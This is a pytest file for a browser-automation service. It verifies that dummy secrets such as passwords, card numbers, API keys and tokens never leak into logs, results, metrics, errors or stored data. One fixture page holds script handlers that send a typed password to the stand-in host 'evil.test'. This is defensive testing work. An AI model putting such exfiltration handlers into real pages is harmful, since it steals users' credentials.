"""Secrets of every kind, planted wherever a browser carries them, are found nowhere that people or programs read."""

import json
import logging
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from remit.browser_daemon.framing import error_to_frame
from remit.contracts.browser.browser import ActionResult
from remit.observability.logs import configure_logging
from tests.browser.service.browser_workspace import Place, deny
from tests.support.browser_site import Reply

pytestmark = pytest.mark.req("VX-08")

SECRETS = {
    "password": "Tr0ub4dor+Zebra",
    "typed": "xylophone quartz 9",
    "card": "4111111111111111",
    "ssn": "078-05-1120",
    "key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "mail": "jane.doe@private.example",
    "cookie": "sessionvaluezyx987",
    "bearer": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ6ZWJyYSJ9.c2lnbmF0dXJlLXplYnJh",
    "csrf": "forgery-guard-zebra",
}
PAGE = f"""<title>Invoice for {SECRETS["mail"]}</title>
<p>Your key is {SECRETS["key"]}, your card {SECRETS["card"]}, your number {SECRETS["ssn"]}.</p>
<form method="post" action="/act?password={quote(SECRETS["password"])}&next={quote("/x?token=" + SECRETS["bearer"])}">
<input name="password" value="{SECRETS["password"]}"><input name="note" value="pay {SECRETS["card"]} now">
<input name="ssn" value="{SECRETS["ssn"]}"><input name="api_key" value="{SECRETS["key"]}">
<input name="who" value="{SECRETS["mail"]}"><input type="hidden" name="csrf" value="{SECRETS["csrf"]}">
<input type="password" id="pw" name="z9"><button id="go">Send {SECRETS["mail"]}</button></form>
<button id="json" onclick='fetch("/act", {{method: "POST", headers: {{"Authorization": "Bearer {SECRETS["bearer"]}",
 "X-CSRF-Token": "{SECRETS["csrf"]}"}}, body: JSON.stringify({{deep: [{{secret: "{SECRETS["password"]}"}}],
 text: "card {SECRETS["card"]}"}})}})'>json</button>"""


def found_in(text: str) -> list[str]:
    """Which secrets are there, whole or but for their last four characters, in any spelling that a record may have."""
    names = []
    for name, secret in SECRETS.items():
        spellings = {secret, quote(secret), quote(secret, safe=""), secret.replace(" ", "+"), json.dumps(secret)[1:-1]}
        if any(spelling[:-4] in text for spelling in spellings):
            names.append(name)
    return names


def test_no_secret_is_found_in_anything_that_is_kept_or_told(
    place: Place, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = (tmp_path / "log").open("w+")
    handler = configure_logging(log, logging.DEBUG)
    place.site.routes["/act"] = Reply(raw=b"", reset=True)
    place.site.routes["/"] = Reply(200, PAGE.encode(), headers={"Set-Cookie": f"sid={SECRETS['cookie']}; Path=/"})
    results: list[ActionResult] = [
        place.do(place.action("navigate", f"/?token={SECRETS['bearer']}&password={quote(SECRETS['password'])}")),
        place.do(place.action("snapshot")),
        place.do(place.action("screenshot")),
        place.do(place.action("type", selector="#pw", value=SECRETS["typed"])),
        place.click("#json", answer=deny),
        place.click("#json"),
        place.do(place.action("click", selector=f"[data-password='{SECRETS['password']}']")),
        place.click("#go"),
        place.do(place.action("navigate", "/missing"), token=SECRETS["bearer"]),
    ]
    assert [result.success for result in results] == [True, True, True, True, False, False, False, False, False]
    assert len(place.site.posts()) == 2
    assert SECRETS["typed"].replace(" ", "+").encode() in place.site.posts()[1].body, "it was sent as it is"
    log.seek(0)
    told = {
        "results": "".join(result.canonical().decode() for result in results),
        "questions": "".join(question.approval.canonical().decode() for question in place.asked),
        "metrics": place.workspace.browser_service.metrics.render().decode(),
        "logs": log.read(),
        "output": "".join(capsys.readouterr()),
        "errors": "".join(str(refusal) + json.dumps(error_to_frame(refusal)) for refusal in place.refusals),
        "database": everything_in_the_store(place),
        "names of files": "".join(str(path) for path in place.workspace.state.path.rglob("*")),
    }
    logging.getLogger().removeHandler(handler)
    log.close()
    assert {where: found_in(text) for where, text in told.items() if found_in(text)} == {}
    assert all(len(text) > 0 for where, text in told.items() if where != "output")


TYPED = 'xylophone"quärtz/9 &jane.doe@x.example'
SPREADING = """<title>Hello</title><input type="password" id="pw"><p id="out"></p><script>
const typed = () => pw.value, coded = () => encodeURIComponent(pw.value);
const send = (url, body) => fetch(url, {method: "POST", body, headers: {"X-Odd": coded()}}).catch(() => 0);
</script>
<button id="go" onclick="send('/act?q=' + coded(), JSON.stringify([typed()]))">go</button>
<button id="away" onclick="fetch('http://evil.test/?' + coded()).catch(() => 0)">away</button>
<button id="lead" onclick="location = 'http://evil.test/?q=' + coded()">lead</button>
<button id="show" onclick="document.title = out.textContent = typed(); out.title = coded();
 history.replaceState(0, 0, '/done?' + coded()); alert(typed()); console.log(typed())">show</button>"""


def test_what_was_typed_into_a_password_field_is_found_in_no_value_and_in_nothing_that_the_page_says(
    place: Place, capsys: pytest.CaptureFixture[str]
) -> None:
    place.open(SPREADING)
    here = "/done"
    acts: dict[str, Callable[[], ActionResult]] = {
        "type": lambda: place.do(place.action("type", selector="#pw", value=TYPED)),
        "sent": place.click,
        "denied": lambda: place.click(answer=deny),
        "turned away": lambda: place.click("#away"),
        "led away": lambda: place.click("#lead"),
        "shown": lambda: place.click("#show"),
        "elsewhere": place.click,
        "snapshot": lambda: place.do(place.action("snapshot", here)),
        "named": lambda: place.do(place.action("click", here, selector=f"[title='{quote(TYPED, safe='')}']")),
        "missing": lambda: place.do(place.action("click", here, selector=f"#x[title='{quote(TYPED, safe='')}']")),
    }
    results = {name: act() for name, act in acts.items()}
    failed = {name for name, result in results.items() if not result.success}
    assert failed == {"denied", "led away", "elsewhere", "missing"}
    assert TYPED.encode() in json.loads(place.site.posts()[0].body)[0].encode(), "it was sent as it is"
    told = {
        **{name: result.canonical().decode() for name, result in results.items()},
        "questions": "".join(question.approval.canonical().decode() for question in place.asked),
        "output": "".join(capsys.readouterr()),
        "errors": "".join(str(refusal) + json.dumps(error_to_frame(refusal)) for refusal in place.refusals),
        "database": everything_in_the_store(place),
    }
    assert {name: text for name, text in told.items() if "xylophone" in text.lower()} == {}
    assert "********" in told["shown"]
    assert "********" in told["turned away"]
    assert len(place.asked) == 3


def everything_in_the_store(place: Place) -> str:
    with place.workspace.store.reading() as connection:
        tables = [row[0] for row in connection.rows("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return "".join(repr(row) for table in tables for row in connection.rows(f'SELECT * FROM "{table}"'))


def test_the_search_finds_what_is_there() -> None:
    assert found_in(f"x{SECRETS['key']}y{quote(SECRETS['password'])}") == ["password", "key"]
    assert found_in("nothing") == []
